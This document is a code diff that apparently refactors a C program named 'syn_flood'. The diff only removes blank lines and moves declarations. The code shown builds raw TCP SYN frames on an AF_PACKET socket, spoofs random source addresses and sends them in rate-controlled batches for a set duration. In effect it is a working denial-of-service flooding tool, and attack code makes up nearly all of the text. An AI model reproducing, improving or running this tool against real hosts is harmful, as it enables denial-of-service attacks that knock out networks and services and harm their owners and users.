@@ -40,7 +40,6 @@ static void put16(uint8_t *p, uint32_t v)
 static uint32_t add(const uint8_t *p, int len)
 {
     uint32_t sum = 0;
-
     for (int i = 0; i < len; i += 2) {
         sum += (uint32_t)p[i] << 8 | p[i + 1];
     }
@@ -57,7 +56,6 @@ static void refresh(uint8_t *f, uint32_t sources)
 {
     uint32_t src = 0xac100000u | (rnd() & 0xfffff) % sources, seq = rnd();
     uint8_t *ip = f + 14, *tcp = f + 34;
-
     put16(ip + 12, src >> 16);
     put16(ip + 14, src);
     put16(ip + 10, 0);
@@ -72,7 +70,6 @@ static void refresh(uint8_t *f, uint32_t sources)
 static uint64_t now_ns(void)
 {
     struct timespec t;
-
     clock_gettime(CLOCK_MONOTONIC, &t);
     return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
 }
@@ -84,7 +81,6 @@ static void prepare(uint8_t *f, char **arg)
         [23] = 6, [46] = 0x60, [47] = 2,    [48] = 0xff,     [49] = 0xff,
         [54] = 2, [55] = 4,    [56] = 5,    [57] = 0xb4,
     };
-
     memcpy(f, head, LEN);
     sscanf(arg[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", f, f + 1, f + 2, f + 3,
            f + 4, f + 5);
@@ -96,19 +92,17 @@ int main(int argc, char **argv)
 {
     static uint8_t frame[BATCH][LEN];
     struct mmsghdr msg[BATCH] = {0};
-    struct iovec iov[BATCH];
     struct sockaddr_ll to = {.sll_family = AF_PACKET};
-    uint64_t rate, began, end, sent = 0;
-    uint32_t sources;
+    uint64_t sent = 0;
     int s = socket(AF_PACKET, SOCK_RAW, 0);
-
     if (argc < 7 || s < 0) {
         perror("syn_flood");
         return 1;
     }
     to.sll_ifindex = (int)if_nametoindex(argv[1]);
-    rate = (uint64_t)atoll(argv[5]);
-    sources = argc > 7 ? (uint32_t)atoi(argv[7]) : 0x100000;
+    uint64_t rate = (uint64_t)atoll(argv[5]);
+    uint32_t sources = argc > 7 ? (uint32_t)atoi(argv[7]) : 0x100000;
+    struct iovec iov[BATCH];
     for (int i = 0; i < BATCH; i++) {
         prepare(frame[i], argv);
         iov[i] = (struct iovec){frame[i], LEN};
@@ -117,8 +111,8 @@ int main(int argc, char **argv)
                                          .msg_iov = &iov[i],
                                          .msg_iovlen = 1};
     }
-    began = now_ns();
-    end = began + (uint64_t)(atof(argv[6]) * 1e9);
+    uint64_t began = now_ns();
+    uint64_t end = began + (uint64_t)(atof(argv[6]) * 1e9);
     for (uint64_t now = began; now < end; now = now_ns()) {
         if (sent > (now - began) / 1000 * rate / 1000000) {
             nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
